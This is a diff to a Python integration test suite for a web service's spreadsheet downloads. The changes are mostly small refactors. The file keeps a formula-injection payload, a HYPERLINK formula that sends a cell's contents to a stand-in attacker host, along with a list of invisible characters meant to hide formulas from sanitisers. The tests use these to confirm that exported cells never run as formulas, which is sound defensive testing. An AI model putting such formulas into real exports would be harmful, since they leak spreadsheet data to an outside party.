@@ -12,12 +12,14 @@ from pathlib import Path
 
 import pytest
 
-from tests.integration.test_center import fast, projects_one_to_nine, run, task  # noqa: F401 (fixtures)
+from tests.integration import test_center
+from tests.integration.test_center import run, task
 from tests.integration.test_download_center import _convert, _soffice
 from tests.integration.test_exports import _file
 from tests.integration.test_web_api import new_token
 from tests.web_helpers import WebServer
 
+fast, projects_one_to_nine = test_center.fast, test_center.projects_one_to_nine  # its fixtures, shared
 LEAK = '=HYPERLINK("http://attacker.invalid/?leak="&A2,"open")'
 # what a spreadsheet may skip before it looks for a formula
 LEADS = ["\x00", "\x01", "\x1f", "\x7f", "\ufeff", "\u200b", "\u200c", "\u200d", "\u2060", " ", "\xa0",
@@ -43,7 +45,8 @@ def test_a_cell_behind_invisible_characters_never_runs_as_a_formula(fast, tmp_pa
     path.write_bytes(_file(done.id))
     cells = _cells_in_libreoffice(soffice, path, tmp_path)
     assert "open" not in cells and "42" not in cells, cells  # HYPERLINK's result, the sum's
-    assert sum("HYPERLINK" in c for c in cells) == len(LEADS) and sum("=1+41" in c for c in cells) == len(LEADS)
+    assert sum("HYPERLINK" in c for c in cells) == len(LEADS)
+    assert sum("=1+41" in c for c in cells) == len(LEADS)
 
 
 def _deliver(fast, kind: str, rows: list[dict]):
@@ -108,7 +111,6 @@ def test_a_page_of_millions_of_objects_costs_the_web_little_and_fails_in_one_lin
         before = peak_rss_mib(web.proc.pid)
         got = web.call("GET", "/v1/download/sync", token, params=form)
         grew = peak_rss_mib(web.proc.pid) - before
-    print("MEASURE", shape, before, grew)
     # the page's bytes and its text (2 x 16 MiB) and some slack; parsed whole it was 27 x the page
     assert grew < 6 * PAGE_MIB, f"the web's peak memory grew by {grew:.0f} MiB for a {PAGE_MIB} MiB page"
     objects = len(FLOOD) // 3 + 1 + {"rows": 3, "nested": 5}[shape]  # the flood and the answer's own
@@ -130,13 +132,12 @@ def test_an_integer_of_5000_digits_is_a_422_in_one_line(fast, field, text):
     token = new_token("sys", "analyst", "7")
     with WebServer(fast.env) as web:
         form = {"project_id": "7", "name": "huge", "type": "excel", "source_data": '[{"a": 1}]', field: text}
+        body = f'{{"project_id": 7, "name": "huge", "{field}": {text}}}'  # the number as JSON, not text
         answers = [
             web.call("POST", "/v1/task", token, data=form),
             web.call("GET", "/v1/download/sync", token, params=form),
-            web.call("POST", "/v1/task", token, data=f'{{"project_id": 7, "name": "huge", "{field}": {text}}}',
-                     headers={"Content-Type": "application/json"}),
-            web.call("POST", "/api/v1/center/tasks", token,
-                     data=f'{{"project_id": 7, "name": "huge", "{field}": {text}}}',
+            web.call("POST", "/v1/task", token, data=body, headers={"Content-Type": "application/json"}),
+            web.call("POST", "/api/v1/center/tasks", token, data=body,
                      headers={"Content-Type": "application/json"}),
         ]
         output = web._read()
